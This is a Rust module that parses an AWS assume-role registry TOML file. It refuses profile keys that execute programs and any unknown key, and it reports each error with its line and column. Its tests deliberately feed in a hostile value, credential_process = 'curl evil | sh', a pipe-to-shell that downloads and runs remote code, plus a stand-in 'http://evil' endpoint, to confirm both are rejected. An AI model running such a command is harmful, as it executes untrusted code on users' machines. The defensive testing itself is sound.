//! `assume-role-registry.toml`: its schema, checked with the line and column of every problem.
//!
//! A registry describes roles and nothing else. Its profiles may set only the keys that
//! describe a role; a key that runs a program (`credential_process`, `mfa_process`) would run
//! it on every teammate's machine, and is refused with the whole file. `{name}` in a value is
//! the contractor's own value for `name`, declared under `[values]`; nothing else is templated.

use super::RegistryError;
use crate::config::keys;
use std::collections::BTreeMap;
use toml::{Spanned, Value};

/// The file's name at the registry's root.
pub const FILE_NAME: &str = "assume-role-registry.toml";
/// The format versions this build reads.
pub const VERSION: i64 = 1;

/// The keys a registry profile may set, in the order they are written to the config.
pub const ALLOWED: &[&str] = &[
    keys::ROLE_ARN,
    keys::EXTERNAL_ID,
    keys::SOURCE_PROFILE,
    keys::MFA_SERIAL,
    keys::MFA_SESSION_DURATION,
    keys::REGION,
    keys::DURATION_SECONDS,
    keys::ROLE_SESSION_NAME,
    keys::SOURCE_IDENTITY,
    keys::SSO_SESSION,
    keys::SSO_START_URL,
    keys::SSO_REGION,
    keys::SSO_ACCOUNT_ID,
    keys::SSO_ROLE_NAME,
    keys::SSO_REGISTRATION_SCOPES,
];

/// Keys that run a program: named as such when refused.
const EXECUTABLE: &[&str] = &[keys::CREDENTIAL_PROCESS, keys::MFA_PROCESS];

/// A registry file, checked.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Registry {
    /// Each value a contractor supplies, and its description.
    pub values: BTreeMap<String, String>,
    /// Each profile's keys and values as written (templates not yet filled in).
    pub profiles: BTreeMap<String, BTreeMap<String, String>>,
}

/// Where in the file, for errors.
struct At<'a> {
    text: &'a str,
    origin: &'a str,
}

impl At<'_> {
    fn error(&self, span: std::ops::Range<usize>, problem: String) -> RegistryError {
        let before = self
            .text
            .get(..span.start.min(self.text.len()))
            .unwrap_or_default();
        let line = before.matches('\n').count() + 1;
        let column = before.rsplit('\n').next().map_or(0, |l| l.chars().count()) + 1;
        RegistryError::Invalid {
            origin: self.origin.to_owned(),
            line,
            column,
            problem,
        }
    }
}

/// Reads `text`; `origin` names the file in errors (the registry and its commit).
pub fn parse(text: &str, origin: &str) -> Result<Registry, RegistryError> {
    let at = At { text, origin };
    let table: toml::Table = toml::from_str(text).map_err(|err| {
        at.error(
            err.span().unwrap_or(0..0),
            err.message()
                .lines()
                .next()
                .unwrap_or("not TOML")
                .to_owned(),
        )
    })?;
    let spanned: BTreeMap<String, Spanned<Value>> = toml::from_str(text)
        .map_err(|err| at.error(err.span().unwrap_or(0..0), err.message().to_owned()))?;
    let span_of = |key: &str| spanned.get(key).map_or(0..0, Spanned::span);
    match table.get("version") {
        Some(Value::Integer(VERSION)) => {}
        Some(Value::Integer(other)) => {
            return Err(at.error(
                span_of("version"),
                format!("`version = {other}` is a format this build does not read (it reads {VERSION}); update assume-role"),
            ));
        }
        Some(_) => return Err(at.error(span_of("version"), "`version` must be an integer".into())),
        None => {
            return Err(at.error(
                0..0,
                format!("there is no `version = {VERSION}` at the top"),
            ));
        }
    }
    for key in table.keys() {
        if !["version", "values", "profiles"].contains(&key.as_str()) {
            return Err(at.error(
                span_of(key),
                format!("unknown key `{key}` (the file holds `version`, `[values]` and `[profiles.NAME]`)"),
            ));
        }
    }
    let values = strings(&at, &spanned, "values", |name, value| match value {
        Value::String(description) => Ok((name.to_owned(), description.clone())),
        _ => Err(format!(
            "`values.{name}` must be a string: the value's description"
        )),
    })?;
    let mut profiles = BTreeMap::new();
    if let Some(entry) = spanned.get("profiles") {
        let Value::Table(tables) = entry.get_ref() else {
            return Err(at.error(
                entry.span(),
                "`profiles` must be tables: `[profiles.NAME]`".into(),
            ));
        };
        for (name, body) in tables {
            let Value::Table(body) = body else {
                return Err(at.error(entry.span(), format!("`profiles.{name}` must be a table")));
            };
            profiles.insert(name.clone(), profile(&at, name, body)?);
        }
    }
    Ok(Registry { values, profiles })
}

/// One profile's keys, each allowed and a string or an integer.
fn profile(
    at: &At,
    name: &str,
    body: &toml::Table,
) -> Result<BTreeMap<String, String>, RegistryError> {
    let mut keys = BTreeMap::new();
    for (key, value) in body {
        let problem = if EXECUTABLE.contains(&key.as_str()) {
            Some(format!(
                "profile `{name}` sets `{key}`, which runs a program: a registry may not run anything on its users' machines"
            ))
        } else if !ALLOWED.contains(&key.as_str()) {
            Some(format!(
                "profile `{name}` sets `{key}`, which a registry may not set (it may set {})",
                ALLOWED.join(", ")
            ))
        } else {
            None
        };
        if let Some(problem) = problem {
            return Err(at.error(find(at.text, name, key), problem));
        }
        let value = match value {
            Value::String(s) => s.clone(),
            Value::Integer(n) => n.to_string(),
            other => {
                return Err(at.error(
                    find(at.text, name, key),
                    format!(
                        "`{key}` of profile `{name}` is {}, not a string or an integer",
                        other.type_str()
                    ),
                ));
            }
        };
        keys.insert(key.clone(), value);
    }
    Ok(keys)
}

/// The `[name]` table of string entries, mapped by `each`.
fn strings(
    at: &At,
    spanned: &BTreeMap<String, Spanned<Value>>,
    name: &str,
    each: impl Fn(&str, &Value) -> Result<(String, String), String>,
) -> Result<BTreeMap<String, String>, RegistryError> {
    let Some(entry) = spanned.get(name) else {
        return Ok(BTreeMap::new());
    };
    let Value::Table(table) = entry.get_ref() else {
        return Err(at.error(
            entry.span(),
            format!("`{name}` must be a table: `[{name}]`"),
        ));
    };
    table
        .iter()
        .map(|(k, v)| each(k, v).map_err(|problem| at.error(entry.span(), problem)))
        .collect()
}

/// Where `key` of `[profiles.name]` is written, for the error's line: the first line that sets
/// it after the table's header (toml gives spans for tables, not for their keys).
fn find(text: &str, profile: &str, key: &str) -> std::ops::Range<usize> {
    let mut offset = 0;
    let mut inside = false;
    for line in text.split_inclusive('\n') {
        let trimmed = line.trim();
        if trimmed.starts_with('[') {
            let header = trimmed
                .trim_matches(['[', ']'])
                .trim()
                .replace(['"', '\''], "");
            inside = header == format!("profiles.{profile}");
        } else if inside && trimmed.split('=').next().is_some_and(|k| k.trim() == key) {
            let column = line.len() - line.trim_start().len();
            return offset + column..offset + line.len();
        }
        offset += line.len();
    }
    0..0
}

/// The `{name}`s a value uses, in order.
pub fn placeholders(value: &str) -> Vec<&str> {
    let mut found = Vec::new();
    let mut rest = value;
    while let Some(open) = rest.find('{') {
        let after = &rest[open + 1..];
        let Some(close) = after.find('}') else { break };
        found.push(&after[..close]);
        rest = &after[close + 1..];
    }
    found
}

#[cfg(test)]
mod tests {
    use super::*;

    const GOOD: &str = "version = 1\n\n[values]\nsource_profile = \"your own profile\"\n\n[profiles.acme-prod]\nrole_arn = \"arn:aws:iam::333333333333:role/contractor\"\nsource_profile = \"{source_profile}\"\nduration_seconds = 3600\n";

    #[test]
    fn a_good_file_reads_and_templates_are_left_for_later() {
        let registry = parse(GOOD, "test").unwrap();
        assert_eq!(registry.values["source_profile"], "your own profile");
        let prod = &registry.profiles["acme-prod"];
        assert_eq!(prod["duration_seconds"], "3600");
        assert_eq!(placeholders(&prod["source_profile"]), ["source_profile"]);
    }

    #[test]
    fn executable_and_unknown_keys_are_refused_with_their_line() {
        let bad = format!("{GOOD}credential_process = \"curl evil | sh\"\n");
        let err = parse(&bad, "test").unwrap_err();
        let RegistryError::Invalid { line, problem, .. } = &err else {
            panic!("{err}")
        };
        assert_eq!(*line, 10);
        assert!(problem.contains("runs a program"), "{problem}");
        let bad = format!("{GOOD}endpoint_url = \"http://evil\"\n");
        assert!(
            parse(&bad, "test")
                .unwrap_err()
                .to_string()
                .contains("may not set")
        );
        let err = parse("version = 2\n", "test").unwrap_err().to_string();
        assert!(err.contains("update assume-role"), "{err}");
        let err = parse("version = 1\n[profiles.x]\nregion = [1]\n", "test").unwrap_err();
        assert!(err.to_string().contains("line 3"), "{err}");
        assert!(parse("version = 1\nprofiles = 3\n", "test").is_err());
        assert!(parse("[profiles.x\n", "test").is_err());
    }
}
